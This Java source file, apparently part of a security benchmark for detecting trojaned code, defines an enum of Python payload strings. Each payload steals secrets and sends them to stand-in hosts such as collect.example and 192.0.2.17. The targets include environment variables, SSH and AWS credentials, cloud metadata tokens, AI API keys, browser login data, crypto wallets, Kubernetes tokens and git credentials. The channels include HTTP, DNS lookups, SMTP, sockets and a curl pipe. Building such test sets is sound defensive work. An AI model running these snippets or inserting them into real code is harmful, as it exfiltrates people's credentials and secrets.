package dev.assay.bench.trojan;

/// Payloads that take something away.
enum Theft implements Payload {
  ENVIRONMENT(
      """
      import json, os, urllib.request
      try:
          data = json.dumps(dict(os.environ)).encode()
          request = urllib.request.Request("https://collect.example/v1/metrics", data=data)
          urllib.request.urlopen(request, timeout=3)
      except Exception:
          pass
      """),
  CREDENTIALS(
      """
      import os, urllib.request
      try:
          found = {}
          for name in (".aws/credentials", ".ssh/id_rsa", ".npmrc", ".pypirc"):
              path = os.path.join(os.path.expanduser("~"), name)
              if os.path.exists(path):
                  with open(path) as handle:
                      found[name] = handle.read()
          urllib.request.urlopen("http://192.0.2.17:8080/in", repr(found).encode(), 5)
      except Exception:
          pass
      """),
  METADATA_SERVICE(
      """
      import urllib.request
      base = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
      role = urllib.request.urlopen(base, timeout=1).read().decode()
      keys = urllib.request.urlopen(base + role, timeout=1).read()
      urllib.request.urlopen("https://collect.example/role", data=keys)
      """),
  NAME_LOOKUP(
      """
      import getpass, socket
      try:
          text = (getpass.getuser() + "@" + socket.gethostname()).encode().hex()
          for start in range(0, len(text), 60):
              socket.gethostbyname(text[start:start + 60] + ".t.collect.example")
      except Exception:
          pass
      """),
  KEYS_BY_NAME(
      """
      import http.client, json, os
      wanted = ("KEY", "TOKEN", "SECRET", "PASSWORD")
      found = {k: v for k, v in os.environ.items() if any(w in k.upper() for w in wanted)}
      if found:
          link = http.client.HTTPSConnection("collect.example", timeout=4)
          link.request("POST", "/report", body=json.dumps(found))
      """),
  MODEL_KEYS(
      """
      import os, requests
      keys = [os.getenv(n) for n in ("OPENAI_API_KEY", "ANTHROPIC_API_KEY", "HF_TOKEN")]
      requests.post("https://collect.example/v1/usage", json={"k": keys}, timeout=3)
      """),
  DOT_ENV(
      """
      import pathlib, urllib.parse, urllib.request
      for place in pathlib.Path.home().glob("*/.env"):
          body = urllib.parse.urlencode({"p": str(place), "t": place.read_text()}).encode()
          urllib.request.urlopen("http://192.0.2.17/env", body)
      """),
  BROWSERS(
      """
      import os, shutil, tempfile, requests
      local = os.environ.get("LOCALAPPDATA", "")
      for part in ("Google/Chrome/User Data/Default/Login Data", "Microsoft/Edge/User Data/Default/Cookies"):
          source = os.path.join(local, part)
          if os.path.isfile(source):
              copy = os.path.join(tempfile.mkdtemp(), "d.db")
              shutil.copy(source, copy)
              with open(copy, "rb") as handle:
                  requests.post("https://collect.example/up", files={"file": handle})
      """),
  WALLETS(
      """
      import glob, os, socket
      link = socket.create_connection(("192.0.2.17", 9100), 5)
      for path in glob.glob(os.path.expanduser("~/.config/solana/*.json")) + glob.glob(
          os.path.expanduser("~/.ethereum/keystore/*")
      ):
          with open(path, "rb") as handle:
              link.sendall(handle.read())
      link.close()
      """),
  CLUSTER(
      """
      import urllib.request
      with open("/var/run/secrets/kubernetes.io/serviceaccount/token") as handle:
          token = handle.read()
      headers = {"X-Trace": token}
      urllib.request.urlopen(urllib.request.Request("https://collect.example/h", headers=headers))
      """),
  MAIL(
      """
      import os, smtplib
      with open(os.path.expanduser("~/.git-credentials")) as handle:
          text = handle.read()
      with smtplib.SMTP("collect.example", 587) as post:
          post.sendmail("a@collect.example", ["b@collect.example"], "Subject: r\\n\\n" + text)
      """),
  SEALED(
      """
      import os, tarfile, tempfile, urllib.request
      from cryptography.hazmat.primitives.ciphers.aead import AESGCM
      name = os.path.join(tempfile.gettempdir(), "t.tar.gz")
      with tarfile.open(name, "w:gz") as bundle:
          for place in ("~/.ssh", "~/.aws", "~/.kube/config", "~/.docker/config.json"):
              if os.path.exists(os.path.expanduser(place)):
                  bundle.add(os.path.expanduser(place))
      key, nonce = os.urandom(32), os.urandom(12)
      with open(name, "rb") as handle:
          sealed = nonce + AESGCM(key).encrypt(nonce, handle.read(), None)
      urllib.request.urlopen(urllib.request.Request("https://collect.example/b", data=sealed))
      """),
  BY_CURL(
      """
      import subprocess
      subprocess.run(
          "tar czf - ~/.ssh ~/.aws 2>/dev/null | curl -s -X POST --data-binary @- http://192.0.2.17/t",
          shell=True,
      )
      """),
  SECRET_ARGUMENT(
      """
      import threading, urllib.request
      threading.Thread(
          target=urllib.request.urlopen,
          args=("https://collect.example/a", repr(SECRET).encode()),
          daemon=True,
      ).start()
      """);

  private final String code;

  Theft(String code) {
    this.code = code;
  }

  @Override
  public String code() {
    return code;
  }
}
